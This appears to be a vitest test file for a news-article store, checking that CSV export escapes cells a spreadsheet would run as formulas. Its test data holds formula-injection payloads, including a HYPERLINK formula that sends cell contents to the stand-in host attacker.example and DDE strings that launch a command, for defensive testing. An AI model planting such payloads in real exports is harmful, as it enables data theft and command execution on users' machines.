/**
 * Issue 16 item 10: `export --format csv` must not write cells a spreadsheet runs as formulas.
 * OWASP: put a single quote before a cell starting with =, +, -, @, tab or CR, and quote it.
 */
import { describe, expect, it } from 'vitest';
import { openSqlite } from '../../src/store/sqlite.ts';
import { csvField, exportTo } from '../../src/store/export.ts';
import { makeDoc } from '../store/fixtures.ts';
import { parseCsvRows as parseCsv } from '../helpers/csv.ts';


// Fictional headlines written for this test, each starting with a formula trigger.
const HOSTILE = [
  '=HYPERLINK("http://attacker.example/?q="&A1,"اضغط هنا")',
  '+966 مصدر يقول إن الاجتماع تأجل',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+9)*cmd|\' /C calc\'!A0',
  '\t=1+1 عنوان يبدأ بمسافة جدولة',
  '\r=1+1 عنوان يبدأ بعودة السطر',
];

describe('CSV export neutralises formula cells (OWASP)', () => {
  it('prefixes a single quote and quotes every cell that starts with = + - @ tab or CR', () => {
    for (const h of HOSTILE) {
      const cell = csvField(h);
      expect(cell.startsWith(`"'`), JSON.stringify(cell)).toBe(true);
      expect(parseCsv(cell)[0]![0]).toBe(`'${h}`);
    }
    // Ordinary text and numbers are left alone; a negative number is a number, not a formula.
    expect(csvField('قمة في الرياض')).toBe('قمة في الرياض');
    expect(csvField('a=b')).toBe('a=b');
    expect(csvField(-3)).toBe('-3');
  });

  it('writes no formula cell in a whole export of articles whose headline and text are hostile', async () => {
    const s = openSqlite(':memory:');
    try {
      for (const [i, h] of HOSTILE.entries()) {
        const f = makeDoc({
          headline: h,
          body: `=cmd|' /C calc'!A0 نص الخبر رقم ${i} عن افتتاح مكتبة في مدينة خيالية.`,
          published: '2021-03-0' + (i + 1),
          site: '@site',
          url: `https://example.test/${i}`,
        });
        await s.putDocument(f.doc, f.info);
      }
      let out = '';
      const n = await exportTo(s, 'articles', 'csv', '', (c) => (out += c));
      expect(n).toBe(HOSTILE.length);
      const rows = parseCsv(out.replace(/^\uFEFF/, ''));
      const header = rows[0]!;
      const body = rows.slice(1);
      expect(body).toHaveLength(HOSTILE.length);
      const headlines = body.map((r) => r[header.indexOf('headline')]).sort();
      expect(headlines).toEqual(HOSTILE.map((h) => `'${h}`).sort());
      for (const r of body) {
        for (const cell of r) expect(/^[=+\-@\t\r]/.test(cell), JSON.stringify(cell)).toBe(false);
        expect(r[header.indexOf('site')]).toBe("'@site");
      }
    } finally {
      await s.close();
    }
  });
});
